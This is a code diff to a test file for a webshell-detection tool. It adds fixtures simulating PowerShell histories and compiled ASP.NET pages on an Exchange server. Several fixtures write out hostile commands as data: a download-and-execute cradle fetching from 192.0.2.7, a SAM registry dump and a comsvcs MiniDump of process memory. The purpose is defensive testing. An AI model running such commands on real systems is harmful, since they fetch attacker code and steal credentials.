@@ -10,7 +10,8 @@ from tests.builders.inert import live
 from tests.builders.machine_records import bits_queue, consumer_of, wmi_instance, wmi_repository
 from tests.builders.shortcuts import shortcut
 from tests.builders.tasks import job_file, task_file
-from tests.persistence.plants import Change, Plant, added, honest, plant
+from tests.persistence.plants import FRAMEWORK, Change, Plant, added, honest, plant
+from webshellhunt.binaries.compiled_pages import directory_hash
 from webshellhunt.model.verdict import Disposition
 
 TASKS: Final = "C/Windows/System32/Tasks"
@@ -126,8 +127,40 @@ _STARTS: tuple[Plant, ...] = (
     honest(42, "set-up: product", added("C/Windows/Setup/Scripts/SetupComplete.cmd", 'msiexec /i "C:\\Program Files\\Vendor\\a.msi" /qn\r\n')),
 )  # fmt: skip
 
+_PSREADLINE: Final = "AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
+_OF_SYSTEM: Final = f"C/Windows/System32/config/systemprofile/{_PSREADLINE}"
+_ADMIN: Final = f"C/Users/exadmin/{_PSREADLINE}"
+_HISTORIES: tuple[Plant, ...] = (
+    plant(54, "history: application pool", "WSH7232", added(f"C/Users/DefaultAppPool/{_PSREADLINE}", "whoami\n")),
+    plant(54, "history: network service", "WSH7232", added(f"C/Windows/ServiceProfiles/NetworkService/{_PSREADLINE}", "dir\n")),
+    plant(54, "history: SYSTEM, download", "WSH7232", added(_OF_SYSTEM, "dir\ni·ex (New-Object Net.WebClient).Download·String('ht·tp://192.0.2.7/a')\n")),
+    plant(54, "history: SYSTEM, credentials", "WSH7232", added(_OF_SYSTEM, "reg sa·ve hklm\\s·am C:\\Tools\\s\n")),
+    plant(54, "history: administrator, credentials", "WSH7232", added(_ADMIN, "rundll32 com·svcs.dll, Mini·Dump 620 C:\\Tools\\l.dmp full\n")),
+    honest(54, "history: administrator", added(_ADMIN, "Get-Mailbox\nGet-ExchangeServer | fl\n")),
+    honest(54, "history: administrator, installer", added(_ADMIN, "i·ex ((New-Object System.Net.WebClient).Download·String('https://community.chocolatey.org/install.ps1'))\n"), most=Disposition.UNEXPLAINED),
+    honest(54, "history: SYSTEM by PsExec", added(_OF_SYSTEM, "whoami\nGet-Service\n"), most=Disposition.UNEXPLAINED),
+)  # fmt: skip
+
+_COMPILED: Final = f"{FRAMEWORK}/Temporary ASP.NET Files/owa/8f3a1c52/1b6de0aa"
+
+
+def _marker(address: str) -> str:
+    return f'<preserve resultType="3" virtualPath="{address}" assembly="App_Web_q3xk0v_d" type="ASP.x_aspx" />'
+
+
+_COMPILED_PAGES: tuple[Plant, ...] = (
+    plant(52, "compiled: marker of a folder that Exchange lacks", "WSH5020", added(f"{_COMPILED}/lang.aspx.{directory_hash('~/auth/lang')}.compiled", _marker("/owa/auth/lang/lang.aspx"))),
+    plant(52, "compiled: assembly of a folder that Exchange lacks", "WSH5020", added(f"{_COMPILED}/App_Web_lang.aspx.{directory_hash('~/auth/lang')}.q3xk0v_d.dll", b"MZ inert")),
+    plant(52, "compiled: assembly of another application", "WSH5020", added(f"{_COMPILED.replace('/owa/', '/ecp/')}/App_Web_x.aspx.{directory_hash('~/api/v2')}.q3xk0v_d.dll.delete", b"MZ inert")),
+    honest(52, "compiled: sign-in page", added(f"{_COMPILED}/logon.aspx.{directory_hash('~/auth')}.compiled", _marker("/owa/auth/logon.aspx"))),
+    honest(52, "compiled: page of ECP", added(f"{_COMPILED.replace('/owa/', '/ecp/')}/App_Web_editdag.aspx.{directory_hash('~/dbmgmt')}.q3xk0v_d.dll", b"MZ inert")),
+    honest(52, "compiled: site of its own", added(f"{_COMPILED.replace('/owa/', '/shop/')}/App_Web_x.aspx.{directory_hash('~/admin')}.q3xk0v_d.dll", b"MZ inert")),
+)  # fmt: skip
+
 PLANTS: tuple[Plant, ...] = (
     *_WMI,
+    *_COMPILED_PAGES,
+    *_HISTORIES,
     *_STARTS,
     *(plant(42, f"task: {name}", "WSH4018", task("Updater", *words)) for name, words in _ODD_TASKS.items()),
     plant(
